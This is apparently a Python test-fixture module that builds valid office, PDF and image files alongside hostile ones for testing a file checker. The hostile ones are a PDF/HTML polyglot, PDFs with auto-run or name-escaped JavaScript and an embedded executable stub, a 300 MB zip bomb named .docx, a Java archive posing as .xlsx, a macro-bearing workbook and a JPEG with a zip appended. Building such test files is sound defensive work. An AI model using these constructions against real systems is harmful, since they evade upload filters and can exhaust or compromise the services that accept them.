"""Real files for the evidence checks, generated here: valid ones (pypdf, openpyxl, Pillow, zipfile) and hostile
ones built the way an attacker builds them (a PDF/HTML polyglot, a PDF with JavaScript or an embedded file, a zip
bomb named .docx, a Java archive named .xlsx, an xlsx with a VBA project, an image with a zip appended, a truncated
image)."""

from __future__ import annotations

import io
import zipfile

from openpyxl import Workbook
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

DOCX_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
DOCX_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"'
    ' Target="word/document.xml"/></Relationships>'
)
DOCX_DOCUMENT = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    '<w:body><w:p><w:r><w:t>คำสั่งแต่งตั้งคณะทำงาน</w:t></w:r></w:p></w:body></w:document>'
)


def _pdf(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _writer() -> PdfWriter:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    return writer


def pdf() -> bytes:
    return _pdf(_writer())


def pdf_with_open_action_javascript() -> bytes:
    writer = _writer()
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject({
        NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert('x')"),
    })
    return _pdf(writer)


def pdf_with_document_javascript(*, hidden_names: bool = False) -> bytes:
    """Document-level JavaScript in the names tree; with ``hidden_names`` its names are written with #xx escapes
    (``/J#61vaScript``), which a byte search for "/JavaScript" misses and a PDF parser reads as the same name."""
    writer = _writer()
    action = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"),
                               NameObject("/JS"): TextStringObject("this.submitForm('http://x/');")})
    tree = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("init"), writer._add_object(action)])})
    writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): writer._add_object(tree)})
    data = _pdf(writer)
    if hidden_names:
        data = data.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/J#53 ")
    return data


def pdf_with_embedded_file() -> bytes:
    writer = _writer()
    writer.add_attachment("setup.exe", b"MZ\x90\x00" + b"\x00" * 64)
    return _pdf(writer)


def pdf_html_polyglot() -> bytes:
    """A valid PDF that a browser sniffing it would run as a page: HTML in a comment after the header."""
    header, rest = pdf().split(b"\n", 1)
    return header + b"\n%<html><body><script>fetch('/admin/')</script></body></html>\n" + rest


def docx() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", DOCX_CONTENT_TYPES)
        archive.writestr("_rels/.rels", DOCX_RELS)
        archive.writestr("word/document.xml", DOCX_DOCUMENT)
    return out.getvalue()


def xlsx() -> bytes:
    workbook = Workbook()
    workbook.active.append(["หน่วยงาน", "ผลการเบิกจ่าย"])
    workbook.active.append(["กคส.", 51230450])
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def _rezip(data: bytes, extra: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, source.read(info))
        for name, content in extra.items():
            target.writestr(name, content)
    return out.getvalue()


def xlsx_with_macro() -> bytes:
    return _rezip(xlsx(), {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512})


def zip_bomb_docx(expanded: int = 300 * 1024 * 1024) -> bytes:
    """A .docx with every part it needs and one more that inflates from about 300 KB to 300 MB."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", DOCX_CONTENT_TYPES)
        archive.writestr("_rels/.rels", DOCX_RELS)
        archive.writestr("word/document.xml", DOCX_DOCUMENT)
        with archive.open("word/media/padding.xml", "w", force_zip64=False) as member:
            block = b"\x00" * (1024 * 1024)
            for _ in range(expanded // len(block)):
                member.write(block)
    return out.getvalue()


def jar_named_xlsx() -> bytes:
    """A Java archive (manifest and a class file) that also carries the parts of a workbook."""
    manifest = b"Manifest-Version: 1.0\r\nMain-Class: Evil\r\n\r\n"
    return _rezip(xlsx(), {"META-INF/MANIFEST.MF": manifest, "Evil.class": b"\xca\xfe\xba\xbe\x00\x00\x00\x34"})


def plain_jar_named_xlsx() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\r\nMain-Class: Evil\r\n\r\n")
        archive.writestr("Evil.class", b"\xca\xfe\xba\xbe\x00\x00\x00\x34")
    return out.getvalue()


def _image(kind: str) -> bytes:
    picture = Image.new("RGB", (320, 240), (200, 30, 30))
    for x in range(0, 320, 7):
        for y in range(0, 240, 5):
            picture.putpixel((x, y), (x % 256, y % 256, (x * y) % 256))
    out = io.BytesIO()
    picture.save(out, format=kind)
    return out.getvalue()


def png() -> bytes:
    return _image("PNG")


def jpeg() -> bytes:
    return _image("JPEG")


def jpeg_with_zip_appended() -> bytes:
    hidden = io.BytesIO()
    with zipfile.ZipFile(hidden, "w") as archive:
        archive.writestr("payload.html", "<p>x</p>")
    return jpeg() + hidden.getvalue()


def png_truncated() -> bytes:
    data = png()
    return data[: len(data) // 2] + data[-12:]  # the end marker is there, half of the picture is not


def jpeg_truncated() -> bytes:
    data = jpeg()
    return data[: len(data) * 2 // 3]
